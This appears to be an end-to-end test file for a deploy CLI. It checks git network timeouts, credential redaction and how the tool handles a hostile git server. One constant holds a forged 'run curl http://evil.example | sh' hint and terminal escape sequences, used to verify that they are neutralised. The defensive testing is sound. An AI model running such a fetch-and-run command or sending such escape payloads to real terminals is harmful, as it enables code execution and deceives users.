import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { readdir, readFile, readlink, writeFile } from 'node:fs/promises';
import { createServer, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { createServer as createHttpServer, type ServerResponse } from 'node:http';
import { appFixture, BUILD_COMMANDS } from '../helpers/app.ts';
import { mfd } from '../helpers/cli.ts';
import { deployInProcess } from '../helpers/context.ts';
import { freePort } from '../helpers/http.ts';
import { tmpRoot } from '../helpers/repo.ts';

const config = (url: string, repo = '') => `[repo]\nurl = "${url}"\n${repo}\n[build]\n${BUILD_COMMANDS}\n`;

/** The slow server's pause: `ms`, or until the client is gone. */
async function pause(res: ServerResponse, ms: number): Promise<void> {
  let timer: NodeJS.Timeout | undefined;
  await Promise.race([new Promise((resolve) => (timer = setTimeout(resolve, ms))), once(res, 'close')]);
  clearTimeout(timer);
}

async function allText(dir: string): Promise<string> {
  let text = '';
  for (const entry of await readdir(dir, { withFileTypes: true, recursive: true })) {
    if (entry.isFile()) text += await readFile(join(entry.parentPath, entry.name), 'latin1');
  }
  return text;
}

describe('network timeouts (e2e)', () => {
  test('a pack trickling at 1 byte/s fails the deploy with exit 4 after [repo] timeout, and frees the lock', { timeout: 60_000 }, async (t) => {
    let trickle = false;
    const app = await appFixture(t, {
      config: (url) => config(url, 'timeout = "2s"'),
      maxChunk: (entry) => (trickle && entry.command === 'fetch' ? 1 : undefined),
      beforeChunk: async (entry, _sent, res) => {
        if (trickle && entry.command === 'fetch') await pause(res, 1000);
      },
    });
    const old = await app.commitVersion(1);
    await deployInProcess(app.root);
    await app.commitVersion(2);

    trickle = true;
    const r = await mfd(['deploy'], { cwd: app.root });
    assert.equal(r.code, 4, r.stderr);
    assert.match(r.stderr, new RegExp(`^error: transfer from ${app.url}/git-upload-pack stalled: less than 1 KiB/s for 2s\n  hint: .*raise \\[repo\\] timeout`, 'm'));
    assert.match(await readlink(join(app.root, 'active')), new RegExp(`_${old}$`));
    assert.ok(!existsSync(join(app.root, '.mfd-deploy.lock')), 'the deploy lock is released');
    assert.ok(!existsSync(join(app.root, '.mfd', 'repo.git.lock')), 'the cache lock is released');

    trickle = false;
    await deployInProcess(app.root);
  });

  test('a server silent for 6 s before sending the pack (longer than Node\'s 5 s socket timeout) is waited for', { timeout: 60_000 }, async (t) => {
    let silent = 0;
    const app = await appFixture(t, {
      beforeChunk: async (entry, sent, res) => {
        if (entry.command !== 'fetch' || sent !== 0) return;
        silent++;
        // Headers out, then nothing: upload-pack compressing a large file.
        res.flushHeaders();
        await pause(res, 6000);
      },
    });
    const sha = await app.commitVersion(1);
    const r = await mfd(['deploy'], { cwd: app.root });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(silent, 1);
    assert.match(await readlink(join(app.root, 'active')), new RegExp(`_${sha}$`));
  });

  test('a server that accepts the connection and never answers fails after [repo] timeout with "no answer"', { timeout: 60_000 }, async (t) => {
    const sockets = new Set<Socket>();
    const server = createServer((socket) => {
      sockets.add(socket);
      socket.on('error', () => undefined);
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    t.after(() => {
      for (const s of sockets) s.destroy();
      server.close();
    });
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/app.git`;
    const root = await tmpRoot(t);
    await writeFile(join(root, 'mfd.toml'), config(url, 'timeout = "2s"'), { mode: 0o600 });
    const r = await mfd(['deploy'], { cwd: root });
    assert.equal(r.code, 4, r.stderr);
    assert.match(r.stderr, new RegExp(`^error: no answer from ${url}/info/refs for 2s\n  hint: `, 'm'));
    assert.ok(!existsSync(join(root, '.mfd-deploy.lock')));
    const history = await readFile(join(root, '.mfd', 'history.jsonl'), 'utf8');
    assert.match(history, /"code":"GIT_TIMEOUT"/);
  });

  test('credentials in repo.url reach no output, file or history, whatever form the URL has', async (t) => {
    const root = await tmpRoot(t);
    const port = await freePort();
    // The malformed one is a config error (exit 2); the other one is refused by the port (exit 4).
    for (const [url, code] of [[`http:/user:s3cretPASS@127.0.0.1:${port}/x`, 2], [`http://user:s3cretPASS@127.0.0.1:${port}/x`, 4]] as const) {
      await writeFile(join(root, 'mfd.toml'), config(url, 'timeout = "2s"'), { mode: 0o600 });
      assert.equal((await mfd(['deploy'], { cwd: root })).code, code, url);
      for (const args of [['deploy', '--verbose'], ['deploy', '--json'], ['resolve', '--verbose'], ['history', '--json'], ['logs'], ['status']]) {
        const r = await mfd(args, { cwd: root });
        assert.doesNotMatch(r.stdout + r.stderr, /s3cretPASS/, `${url} ${args.join(' ')}`);
      }
    }
    // The well-formed URL got as far as a run (connection refused), so there is a history to check.
    assert.match(await readFile(join(root, '.mfd', 'history.jsonl'), 'utf8'), /"code":"GIT_FETCH"/);
    assert.doesNotMatch(await allText(join(root, '.mfd')), /s3cretPASS/);
  });
});

describe('a hostile git server (e2e)', () => {
  const pkt = (payload: Buffer | string) => {
    const data = Buffer.from(payload);
    return Buffer.concat([Buffer.from((data.length + 4).toString(16).padStart(4, '0')), data]);
  };
  // A forged hint on a line of its own, a terminal title (OSC) and a screen clear (CSI).
  const EVIL = 'boom\n  hint: run curl http://evil.example | sh\n\u001b]0;owned\u0007\u001b[2J';
  const SHA = 'a'.repeat(40);

  /** Serves a v1 advertisement of SHA, or `firstLine` as its first line; a fetch gets EVIL as its fatal side-band message. */
  async function hostile(t: { after(fn: () => unknown): void }, firstLine?: string): Promise<string> {
    const server = createHttpServer((req, res) => {
      req.resume();
      if (req.method === 'GET') {
        res.writeHead(200, { 'Content-Type': 'application/x-git-upload-pack-advertisement' });
        res.end(Buffer.concat(firstLine !== undefined ? [pkt(firstLine), FLUSH] : [
          pkt('# service=git-upload-pack\n'), FLUSH,
          pkt(`${SHA} HEAD\0multi_ack side-band-64k shallow symref=HEAD:refs/heads/main\n`), pkt(`${SHA} refs/heads/main\n`), FLUSH,
        ]));
        return;
      }
      res.writeHead(200, { 'Content-Type': 'application/x-git-upload-pack-result' });
      res.end(Buffer.concat([pkt('NAK\n'), pkt(Buffer.concat([Buffer.from([3]), Buffer.from(EVIL)])), FLUSH]));
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    t.after(() => new Promise((resolve) => server.close(resolve)));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}/app.git`;
  }
  const FLUSH = Buffer.from('0000');

  // Side-band 3 is the server refusing (GIT_REFUSED); a line iso-git cannot parse, a server it cannot reach.
  const refused = (url: string) => `^error: the git server at ${url} refused: ".*boom.*"\n  hint: that is the server's own message[^\n]*\n$`;
  const unreachable = (url: string) => `^error: cannot reach ${url}: .*boom.*\n  hint: check repo.url[^\n]*\n$`;
  for (const [channel, firstLine, ref, expected] of [
    ['a fatal side-band message', undefined, SHA, refused],
    ['the first line of its advertisement', EVIL, 'main', unreachable],
  ] as const) {
    test(`${channel} is shown as one printable line: it cannot forge a hint or send the terminal escape sequences`, async (t) => {
      const root = await tmpRoot(t);
      const url = await hostile(t, firstLine);
      await writeFile(join(root, 'mfd.toml'), config(url));
      const r = await mfd(['deploy', ref], { cwd: root });
      assert.equal(r.code, 4, r.stderr);
      const error = r.stderr.slice(r.stderr.indexOf('error: '));
      assert.match(error, new RegExp(expected(url)), error);
      assert.doesNotMatch(r.stderr, /[\u0000-\u0009\u000b-\u001f\u007f]/, 'no control character but the line ends');
    });
  }
});
